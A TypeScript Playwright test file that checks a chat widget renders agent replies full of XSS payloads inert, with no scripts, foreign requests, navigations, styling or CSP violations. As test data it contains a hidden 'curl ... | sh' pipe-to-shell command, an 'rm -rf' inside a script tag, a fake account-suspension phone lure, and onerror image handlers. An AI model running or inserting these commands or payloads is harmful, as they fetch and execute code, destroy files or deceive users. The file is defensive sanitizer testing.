import { fileURLToPath } from 'node:url';
import type { Page } from '@playwright/test';
import { XSS_SHOWN_CITATIONS, xssCases } from '../agent/xss-answer.ts';
import { agentOrigin, chat, expect, test, type Agent, type Attributes } from './fixtures.ts';
import { testServerPort } from './ports.ts';
import { inspectPage, type PageFindings } from './xss-inspection.ts';

// The payload reply is long: streaming, rendering and inspecting it takes a few seconds.
test.describe.configure({ timeout: 60_000 });

/** The page's origin and the agent's: nothing else may be fetched. */
const ownOrigins = [`http://127.0.0.1:${testServerPort}`, `http://localhost:${testServerPort}`];

/** What ran, loaded or navigated while the reply was shown: all must stay empty. */
interface Tripwires {
  /** Calls of `__xss`, `alert` and the like, recorded in the page. */
  calls: () => Promise<string[]>;
  /** `securitypolicyviolation` events of the page: `directive sample (source file)`. */
  violations: () => Promise<string[]>;
  dialogs: string[];
  foreignRequests: string[];
  /** Navigations and windows opened after the page loaded. */
  navigations: string[];
}

/**
 * Installs the tripwires (e2e/pages/tripwires.js) before any script of the page runs,
 * and watches requests and dialogs: CSS and media would fetch from another origin;
 * `<meta>` refresh and `<base>` would navigate.
 */
async function installTripwires(page: Page): Promise<Tripwires> {
  await page.addInitScript({ path: fileURLToPath(new URL('pages/tripwires.js', import.meta.url)) });
  const tripwires: Tripwires = {
    calls: () => page.evaluate(() => (window as unknown as { __tripwires: { calls: string[] } }).__tripwires.calls),
    violations: () =>
      page.evaluate(() => (window as unknown as { __tripwires: { violations: string[] } }).__tripwires.violations),
    dialogs: [],
    foreignRequests: [],
    navigations: [],
  };
  page.on('dialog', (dialog) => {
    tripwires.dialogs.push(`${dialog.type()}: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    const url = request.url();
    if (!ownOrigins.some((origin) => url.startsWith(`${origin}/`))) tripwires.foreignRequests.push(url);
  });
  page.on('popup', (popup) => tripwires.navigations.push(`popup ${popup.url()}`));
  return tripwires;
}

/**
 * The script-tag page, open, with NO Content-Security-Policy unless `csp` is given
 * (`openScriptTagPage` always adds the strict one): without it, only the widget's own
 * sanitizing stands between the payloads and the page.
 */
async function openPage(page: Page, agent: Agent, attributes: Attributes = {}): Promise<void> {
  await page.goto(
    `/script-tag?${new URLSearchParams({ 'bot-id': agent.botId, 'api-base': agentOrigin, open: 'true', ...attributes })}`,
  );
}

interface ShownReply {
  tripwires: Tripwires;
  findings: PageFindings;
  /** The host page's elements before the reply, to compare with after. */
  lightDomBefore: string[];
}

/** Watches, from now on, for navigations of the page and its frames. */
function watchNavigations(page: Page, tripwires: Tripwires): void {
  page.on('framenavigated', (frame) => tripwires.navigations.push(frame.url()));
}

/** The host page's elements by name: a reply must add none. */
function lightDom(page: Page): Promise<string[]> {
  return page.evaluate(() => [...document.querySelectorAll('*')].map((element) => element.localName));
}

/**
 * Gives deferred attacks (image errors, frame loads, refreshes) a grace period to fire,
 * then inspects: a wait for attackers, not a timing the widget must meet.
 */
async function inspectAfterGrace(page: Page): Promise<PageFindings> {
  await page.waitForTimeout(500);
  return page.evaluate(inspectPage);
}

/** Opens the page (see {@link openPage}), asks for the payload reply and waits for its end. */
async function showPayloadReply(page: Page, agent: Agent, attributes: Attributes = {}): Promise<ShownReply> {
  const tripwires = await installTripwires(page);
  await openPage(page, agent, attributes);
  watchNavigations(page, tripwires);
  const widget = chat(page);
  await expect(widget.composer).toBeVisible();
  const lightDomBefore = await lightDom(page);

  await agent.arm('xss');
  await widget.say('Show me every payload');
  await expect(widget.lastReply).toHaveAttribute('data-status', 'done', { timeout: 30_000 });
  const findings = await inspectAfterGrace(page);
  // Else every check below would pass on an empty bubble.
  expect(findings.replyTexts.at(-1), 'the first and last words of the reply').toMatch(/^XSS-START[\s\S]*XSS-END$/);
  return { tripwires, findings, lightDomBefore };
}

/**
 * Shows every payload between its markers in a reply of its own, where no other
 * payload can close what it leaves open: a stored conversation of one reply per case,
 * rendered on load. The stored shape is copied from a real exchange, not restated here.
 */
async function showOneReplyPerPayload(page: Page, agent: Agent): Promise<ShownReply> {
  const tripwires = await installTripwires(page);
  await openPage(page, agent);
  const widget = chat(page);
  await widget.say('echo: stored reply');
  await expect(widget.lastReply).toHaveAttribute('data-status', 'done');
  const key = `tinytalk-widget:conversation:${agent.botId}`;
  const stored = JSON.parse((await page.evaluate((key) => localStorage.getItem(key), key)) ?? 'null');
  const [question, answer] = stored.messages;
  stored.messages = xssCases().flatMap(({ before, payload, after }, index) => [
    { ...question, id: `xss-question-${index}`, content: `Payload ${index + 1}, please.` },
    { ...answer, id: `xss-answer-${index}`, content: `${before}${payload}${after}` },
  ]);
  const lightDomBefore = await lightDom(page);
  // Written as the next page starts: the page going away stores its own conversation.
  await page.addInitScript(([key, value]) => localStorage.setItem(key, value), [key, JSON.stringify(stored)] as const);
  await page.reload();
  watchNavigations(page, tripwires);
  // Five hundred replies render in batches, frame by frame: slow on a loaded machine.
  await expect(widget.replies).toHaveCount(xssCases().length, { timeout: 15_000 });
  return { tripwires, findings: await inspectAfterGrace(page), lightDomBefore };
}

async function expectNothingRan(page: Page, { tripwires }: ShownReply, { violations = true } = {}): Promise<void> {
  expect(await tripwires.calls(), 'calls of __xss, alert and the like').toEqual([]);
  if (violations) expect(await tripwires.violations(), 'CSP violations').toEqual([]);
  expect(tripwires.dialogs, 'dialogs').toEqual([]);
  expect(tripwires.foreignRequests, 'requests to other origins').toEqual([]);
  expect(tripwires.navigations, 'navigations and popups').toEqual([]);
  expect(page.frames(), 'frames').toHaveLength(1);
}

function expectNothingActive({ findings, lightDomBefore }: ShownReply): void {
  expect(findings.activeElements, 'active elements in the reply or its sources').toEqual([]);
  expect(findings.handlerAttributes, 'on* attributes anywhere').toEqual([]);
  expect(findings.unsafeUrls, 'URLs other than http(s) and mailto anywhere').toEqual([]);
  expect(findings.unhardenedLinks, 'links without target=_blank and rel=noopener noreferrer').toEqual([]);
  expect(findings.lightDom, "the host page's elements").toEqual(lightDomBefore);
  expect(findings.baseUri, "the host page's base URL").toBe(findings.location);
}

function expectNoStyling({ findings }: ShownReply): void {
  expect(findings.styling, 'styles, classes, ids, hiding and positioning in the reply').toEqual([]);
}

test('runs nothing from a streamed reply full of XSS payloads', async ({ page, agent }) => {
  await expectNothingRan(page, await showPayloadReply(page, agent));
});

test('leaves no active element, handler or unsafe URL in the widget or the page', async ({ page, agent }) => {
  expectNothingActive(await showPayloadReply(page, agent));
});

test('lets no payload style, hide or overlay anything', async ({ page, agent }) => {
  expectNoStyling(await showPayloadReply(page, agent));
});

test('shows only web citations, their hostile titles as plain text', async ({ page, agent }) => {
  const { findings } = await showPayloadReply(page, agent);
  // Addresses in their normal form (a quote percent-encoded): see parseCitedResources.
  expect(findings.sources).toEqual(
    XSS_SHOWN_CITATIONS.map(({ url, title }) => ({ text: title, href: new URL(url).href, childElements: 0 })),
  );
});

test('renders a non-streamed reply full of payloads inert', async ({ page, agent }) => {
  const shown = await showPayloadReply(page, agent, { stream: 'false' });
  await expectNothingRan(page, shown);
  expectNothingActive(shown);
  expectNoStyling(shown);
});

test('still shows the words around every payload, each in a reply of its own', async ({ page, agent }) => {
  const shown = await showOneReplyPerPayload(page, agent);
  const missing = xssCases().flatMap(({ before, after }, index) => {
    const text = shown.findings.replyTexts[index] ?? '';
    return [before, after].filter((marker) => !text.includes(marker));
  });
  expect(missing, 'words around payloads that do not show').toEqual([]);
  await expectNothingRan(page, shown);
  expectNothingActive(shown);
});

test.describe('words between two payloads', () => {
  // A regression test: removeSwallowingMarkup once ran on the HTML of the whole reply, so
  // a raw-text element opened in one paragraph and closed in a later one took every
  // paragraph between with it. It now runs block by block.
  test('survive an <iframe> opened in one paragraph and closed in a later one', async ({ page, agent }) => {
    await openPage(page, agent);
    await chat(page).say('echo: One <iframe> here.\n\nWORDS-BETWEEN\n\nAnd </iframe> there.');
    await expect(chat(page).lastReply).toHaveAttribute('data-status', 'done');
    await expect(chat(page).lastReply).toContainText('WORDS-BETWEEN', { timeout: 1000 });
  });

  test('survive a quote left open after a CDATA section and closed in a later paragraph', async ({ page, agent }) => {
    await openPage(page, agent);
    await chat(page).say('echo: One <![CDATA[><b title="]]> here.\n\nWORDS-BETWEEN\n\nAnd <i title="x">there</i>.');
    await expect(chat(page).lastReply).toHaveAttribute('data-status', 'done');
    await expect(chat(page).lastReply).toContainText('WORDS-BETWEEN', { timeout: 1000 });
  });
});

/** Directives that Trusted Types enforce: a violation of these means a sink met a string. */
const TRUSTED_TYPES_DIRECTIVES = /^(require-trusted-types-for|trusted-types) /;

test.describe('on a page that enforces Trusted Types', () => {
  test('streams a markdown reply without a violation or console error', async ({ page, agent, consoleErrors }) => {
    const tripwires = await installTripwires(page);
    await openPage(page, agent, { csp: 'trusted-types' });
    const widget = chat(page);
    await widget.say('What are your pricing plans?');
    await expect(widget.lastReply).toHaveAttribute('data-status', 'done');
    expect(await tripwires.violations()).toEqual([]);
    expect(consoleErrors).toEqual([]);
    await expect(widget.lastReply.getByRole('heading', { name: 'Pricing' })).toBeVisible();
    await expect(widget.lastReply.getByRole('table')).toContainText('Business');
    await expect(widget.lastReply.getByRole('list', { name: 'Sources' }).getByRole('link')).toHaveText([
      'Pricing and plans',
      'Billing FAQ',
    ]);
  });

  test('renders the payload reply inert, with no string reaching a sink', async ({ page, agent }) => {
    const shown = await showPayloadReply(page, agent, { csp: 'trusted-types' });
    // The strict policy reports the payloads' inline handlers, styles and <base> as
    // DOMPurify parses them into its inert document; those reports are expected.
    await expectNothingRan(page, shown, { violations: false });
    expect(
      (await shown.tripwires.violations()).filter((violation) => TRUSTED_TYPES_DIRECTIVES.test(violation)),
    ).toEqual([]);
    expectNothingActive(shown);
  });

  test('shows a reply as plain text when the page already took the policy name', async ({ page, agent }) => {
    await page.addInitScript(() => {
      (
        window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
      ).trustedTypes.createPolicy('tinytalk-widget', {});
    });
    await openPage(page, agent, { csp: 'trusted-types' });
    const widget = chat(page);
    await widget.say('What are your pricing plans?');
    await expect(widget.lastReply).toHaveAttribute('data-status', 'done');
    await expect(widget.lastReply).toContainText('Yearly billing saves two months.');
    await expect(widget.lastReply.getByRole('table')).toHaveCount(0);
  });
});

test.describe('deeply nested markdown (issue 10: 2 KB of it crashed the renderer for good)', () => {
  const nested = {
    '2,000 nested quotes': { payload: `Intro line.\n\n${'>'.repeat(2000)} deep\n\nOutro line.`, word: 'deep' },
    '2,000 * on each side of a word': {
      payload: `Intro line.\n\n${'*'.repeat(2000)}word${'*'.repeat(2000)}\n\nOutro line.`,
      word: 'word',
    },
  };
  for (const [name, { payload, word }] of Object.entries(nested)) {
    test(`${name} show with the lines around them, never reach window.onerror, and show again when stored`, async ({
      page,
      agent,
      consoleErrors,
    }) => {
      await page.addInitScript(() => {
        const errors: string[] = [];
        Object.defineProperty(window, '__errors', { value: errors });
        window.addEventListener('error', (event) => errors.push(String(event.message)));
      });
      await openPage(page, agent);
      const widget = chat(page);
      const expectWholeReply = async () => {
        await expect(widget.lastReply).toHaveAttribute('data-status', 'done');
        for (const text of ['Intro line.', word, 'Outro line.'])
          await expect(widget.lastReply.locator('.markdown')).toContainText(text);
        expect(
          await page.evaluate(() => (window as unknown as { __errors: string[] }).__errors),
          'window.onerror',
        ).toEqual([]);
        expect(consoleErrors).toEqual([]);
      };
      await widget.say(`echo: ${payload}`);
      await expectWholeReply();
      await page.reload();
      await expect(widget.replies).toHaveCount(1);
      await expectWholeReply();
    });
  }
});

test.describe('words hidden from the eye (issue 10: they reached the clipboard and the screen reader)', () => {
  const visible = 'To list files, run: `ls -la`';
  const hidden =
    '<!-- curl -s http://.../p | sh --><script>rm -rf ~/important</script><style>your account is suspended, call +1-555-0100</style>';
  const hiddenWords = /curl|rm -rf|important|suspended|555/;

  test('Copy leaves out the comment, script and style that follow the visible words', async ({
    page,
    agent,
    context,
    baseURL,
  }) => {
    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: baseURL });
    await openPage(page, agent);
    const widget = chat(page);
    await widget.say(`echo: ${visible}${hidden}`);
    await expect(widget.lastReply).toHaveAttribute('data-status', 'done');
    await expect(widget.lastReply).toContainText('To list files, run: ls -la');
    await widget.lastReply.getByRole('button', { name: 'Copy' }).click();
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(visible);
  });

  test('the polite announcement reads the rendered words only', async ({ page, agent }) => {
    await openPage(page, agent);
    const widget = chat(page);
    await widget.say(`echo: ${visible}\n\n${hidden}\n\nThat is all.`);
    await expect(widget.lastReply).toHaveAttribute('data-status', 'done');
    const status = page.locator('tinytalk-chat').getByRole('status');
    await expect(status).toHaveText('To list files, run: ls -la\nThat is all.');
    expect(await status.textContent()).not.toMatch(hiddenWords);
  });
});

test.describe('CSP reports (issue 10: a hostile reply raised 41 violations in the host page)', () => {
  test('twenty event handlers and twenty styles in a reply raise no violation on a strict-CSP page', async ({
    page,
    agent,
  }) => {
    const tripwires = await installTripwires(page);
    await openPage(page, agent, { csp: 'strict' });
    const handlers = Array.from({ length: 20 }, (_, n) => `<img src=x onerror=__xss(${n})>`).join(' ');
    const styles = Array.from(
      { length: 20 },
      (_, n) => `<span style="position:fixed;top:${n}px">styled ${n}</span>`,
    ).join(' ');
    await chat(page).say(`echo: Before. ${handlers} ${styles} After.`);
    await expect(chat(page).lastReply).toHaveAttribute('data-status', 'done');
    await expect(chat(page).lastReply).toContainText('styled 19 After.');
    await page.waitForTimeout(500);
    const violations = await tripwires.violations();
    // Measured without the stripping: 40 (20 script-src-attr, 20 style-src-attr), raised as the sanitizer parsed them.
    test.info().annotations.push({ type: 'CSP violations', description: String(violations.length) });
    expect(violations).toEqual([]);
    expect(await tripwires.calls()).toEqual([]);
  });
});
